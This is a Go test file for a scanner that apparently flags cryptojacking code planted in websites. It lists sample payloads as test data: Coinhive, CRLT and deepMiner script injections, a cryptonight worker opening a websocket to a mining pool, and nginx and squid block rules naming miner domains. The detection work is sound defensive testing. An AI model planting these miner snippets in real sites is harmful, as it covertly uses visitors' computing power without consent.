package webminer

import (
	"testing"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
)

func TestShapes(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	script, text := trust.KindScript, trust.KindText
	const key = "0123456789abcdef0123456789abcdef"
	indicatortest.Shapes(t, ind, []indicatortest.Sample{
		{Name: "injected-behind-the-end", Path: "srv/i.html", Kind: text, Content: "</body></html>\n<script src='//coinhive.com/lib/coinhive.min.js'></script><script>new CoinHive.User('" + key + "', 'u').start()</script>", Want: trust.Strong},
		{Name: "template", Path: "srv/footer.php", Kind: script, Content: "<?php echo '<script>var m = new CRLT.Anonymous(\"" + key + "\", {throttle: 0.3}); m.start();</script>'; ?>\n", Want: trust.Strong},
		{Name: "capitals-of-a-tag", Path: "srv/i.HTM", Kind: text, Content: "<SCRIPT SRC=\"/a/coinhive.min.js\"></SCRIPT>", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "worker", Path: "srv/w.js", Kind: script, Content: "importScripts('/a/deepMiner.min.js');\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "own-module", Path: "srv/w.js", Kind: script, Content: "const h = Module.cwrap('cryptonight_hash', 'string', ['string']);\nconst s = new WebSocket('wss://203.0.113.4/?pool=x');\n", Want: trust.Strong},
		{Name: "all-together", Path: "srv/i.html", Kind: text, Content: "<script src='//coinhive.com/lib/coinhive.min.js'></script>\n<script>var m = new CoinHive.User('" + key + "', 'u');\nm.setThrottle(0.5);</script>", Want: trust.Proof},
		{Name: "throttled", Path: "srv/w.js", Kind: script, Content: "const h = Module.ccall('randomx_hash', 'string');\nconst o = {throttle: 0.2};\n", Want: trust.Strong},
	}, []indicatortest.Twin{
		{Name: "other-client", Path: "srv/a.js", Kind: script, Content: "const c = new Client.Anonymous('guest');\nnew OAuth.Client('" + key + "');\n"},
		{Name: "content-policy", Path: "etc/nginx/n.conf", Kind: text, Content: "if ($request_uri ~* (coinhive\\.min\\.js|cryptonight\\.wasm)) { return 403; }\n"},
		{Name: "proxy-rules", Path: "etc/squid/deny", Kind: text, Content: ".coinhive.com\n.crypto-loot.com\n.coinimp.com\n"},
		{Name: "tests-of-a-blocker", Path: "ext/tests/block.test.js", Kind: script, Content: "expect(blocks('<script src=\"https://coinhive.com/lib/coinhive.min.js\">')).toBe(true)\n"},
		{Name: "chat", Path: "srv/a.js", Kind: script, Content: "const ws = new WebSocket(`wss://${location.host}/socket`);\nsetInterval(poll, 100);\n"},
		{Name: "game", Path: "srv/g.js", Kind: script, Content: "class Miner { startMining(ore) { this.ore = ore; } }\nnew Miner().startMining('iron');\n"},
		{Name: "wasm", Path: "srv/a.js", Kind: script, Content: "fetch('/sha256.wasm').then(r => WebAssembly.instantiateStreaming(r));\nModule.cwrap('hash', 'string', ['string']);\n"},
		{Name: "lodash", Path: "srv/l.js", Kind: script, Content: "export default {throttle: 250, debounce: 10};\nscroll.throttle = _.throttle(f, 16);\n"},
	})
}
